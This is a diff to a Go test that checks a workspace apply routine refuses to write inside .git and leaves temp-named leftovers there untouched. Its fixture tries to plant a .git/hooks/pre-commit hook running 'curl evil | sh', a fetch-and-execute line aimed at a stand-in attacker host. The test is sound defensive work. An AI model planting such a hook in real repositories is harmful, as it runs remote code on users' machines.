@@ -188,6 +188,9 @@ func TestApplyNeverWritesThroughLinks(t *testing.T) {
 // recording ignored.
 func TestApplyNeverTouchesGit(t *testing.T) {
 	s := newSandbox(t)
+	// A file named like a killed Apply's leftover is not swept out of .git
+	// for a cassette that is refused.
+	os.WriteFile(filepath.Join(s.root, ".git", "hooks", workspace.TempPrefix+"4242-00-1.new"), []byte("git's\n"), 0o644)
 	hook := create(".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n")
 	hook.Mode = "0755"
 	refused(t, s, tape(t, cassette.Header{}, hook), workspace.ErrUnsafe, `evil.cassette:5: unsafe path: ".git/hooks/pre-commit" is in .git`)
